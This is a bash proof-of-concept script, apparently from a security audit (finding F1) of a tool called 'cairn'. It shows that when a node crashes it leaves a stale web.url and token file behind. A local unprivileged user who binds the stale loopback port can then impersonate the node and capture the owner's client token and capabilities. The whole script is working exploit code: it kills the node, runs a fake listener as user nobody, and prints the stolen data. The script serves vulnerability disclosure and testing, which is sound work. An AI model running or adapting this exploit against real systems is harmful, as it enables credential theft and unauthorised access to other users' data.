#!/bin/bash
# F1: after a node dies without cleanup (kill -9, OOM kill, power loss), its web.url and
# private/client.token stay. Any local user (here: nobody) who binds the stale loopback port
# receives the node's client token and every cap the owner's next cairn commands use.
# Usage: a9_stale_weburl.sh [CAIRN_CHECKOUT]   (run as root so it can drop to nobody)
set -u
CAIRN=${1:-$(cd "$(dirname "$0")/../.." && pwd)}/cairn
W=$(mktemp -d /var/tmp/f1.XXXXXX); chmod 755 $W
PORT=$((20000 + RANDOM % 20000))
FAKEID=$(python3 -c 'print("a"*52)')
$CAIRN create-node $W/client --introducer "cairn://${FAKEID}@127.0.0.1:9" --no-storage >/dev/null
CAP=cairn:dir:z56a3rxuvs5756hv55sbgnszvqviscplrn4vhjrw5beehkgllhpa:gmckzxoilnmsoybmyx2gy7xdu7j3gztxaaf4e6ltehtmyk7rgdba
CAIRN_NODE=$W/client $CAIRN add-alias root $CAP >/dev/null
setsid $CAIRN run $W/client --web-port $PORT >$W/run.log 2>&1 & RUNPID=$!
for i in $(seq 60); do [ -s $W/client/web.url ] && break; sleep 1; done
echo "node wrote: $(cat $W/client/web.url)"
kill -9 -- -$RUNPID; sleep 1                      # crash: no cleanup
ls -l $W/client/web.url $W/client/private/client.token
touch $W/steal.log; chmod 666 $W/steal.log
setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 "$(dirname "$0")/a9_fake_listener.py" $PORT $W/steal.log & FAKE=$!
sleep 1
echo "--- owner runs: cairn ls root:  and  cairn put secret.bin"
CAIRN_NODE=$W/client $CAIRN ls root:; echo "exit $?"
head -c 1000 /dev/urandom > $W/secret.bin; CAIRN_NODE=$W/client $CAIRN put $W/secret.bin; echo "exit $?"
kill $FAKE
echo "--- what user nobody captured:"; cat $W/steal.log
echo "--- token file (owner-only) held: $(cat $W/client/private/client.token)"
